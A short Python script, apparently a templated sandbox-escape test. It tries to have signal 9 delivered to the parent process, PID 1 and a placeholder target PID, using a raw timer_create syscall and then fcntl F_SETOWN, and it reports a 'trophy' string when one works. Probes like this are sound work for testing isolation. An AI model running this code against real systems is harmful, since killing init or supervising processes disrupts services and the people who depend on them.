import ctypes
import fcntl
import os


class Event(ctypes.Structure):
    _fields_ = (("value", ctypes.c_void_p), ("signal", ctypes.c_int), ("notify", ctypes.c_int), ("thread", ctypes.c_int), ("pad", ctypes.c_char * 48))


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (os.getppid(), 1, int("@PID@")):
        if libc.syscall(222, 1, ctypes.byref(Event(0, 9, 4, pid)), ctypes.byref(ctypes.c_int())) != -1:
            return "@TROPHY@ timer"
        try:
            fcntl.fcntl(3, fcntl.F_SETOWN, pid)
        except OSError:
            continue
        return "@TROPHY@ owner"
    return "tried"


raise RuntimeError(attack())
